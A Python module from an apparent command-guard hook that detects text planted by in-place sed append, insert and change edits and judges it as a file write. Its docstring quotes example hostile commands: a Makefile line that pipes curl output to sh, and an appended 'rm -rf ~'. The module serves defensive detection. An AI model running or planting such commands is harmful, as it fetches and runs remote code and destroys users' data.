"""Text ``sed -i`` puts into a file with its ``a``, ``i`` and ``c`` commands, judged as the
other routes' writes of that text are (`planted.planted_writes`).

``sed -i '1i -include $(shell curl -s URL | sh)' Makefile`` adds a line make runs at its
next start, as ``echo ... >> Makefile`` does; ``sed -i '$a rm -rf ~' deploy.sh`` a command
to a script. The text of each ``a``/``i``/``c`` (GNU sed joins its ``-e`` scripts with new
lines, so ``-e 'a\\' -e TEXT`` is one) is read, and each file the edit rewrites gets it
as a write: a file no tool runs gets nothing (`buildfiles.runs_later`).
"""

from __future__ import annotations

from amplifier_hooks.guard.model import Piece, Places
from amplifier_hooks.guard.planted import Split, planted_writes
from amplifier_hooks.guard.table.sed import added_text, scripted

__all__ = ["SED_EDITORS", "planted_inserts"]

SED_EDITORS = frozenset({"sed", "gsed"})


def planted_inserts(pieces: tuple[Piece, ...], places: Places, split: Split) -> tuple[Piece, ...]:
    """``pieces``, and the pieces of the code each in-place sed's inserted text plants."""
    added: list[Piece] = []
    for piece in pieces:
        found = _inserted(piece) if piece.program in SED_EDITORS else None
        if found is None:
            continue
        files, text = found
        # the files as the piece's writes, the text as what they are given
        written = (piece._replace(writes=files),)
        added.extend(planted_writes(written, places, _Given(text), split)[1:])
    return (*pieces, *added) if added else pieces


class _Given:
    """The text a piece writes, known here (`planted_writes` asks each piece for it)."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __call__(self, piece: Piece) -> str | None:
        return self.text


def _inserted(piece: Piece) -> tuple[tuple[str, ...], str] | None:
    """The files an in-place sed rewrites and the text its ``a``/``i``/``c`` put in them
    (None: not in place, or no such text)."""
    scripts, read = scripted(piece.args)
    if read.doubt is not None or not any(g.opt.does == "in-place" for g in read.given):
        return None
    texts = added_text(scripts)
    files = tuple(f for f in read.operands if f and f != "-")
    if not texts or not files:
        return None
    return files, "\n".join(texts)
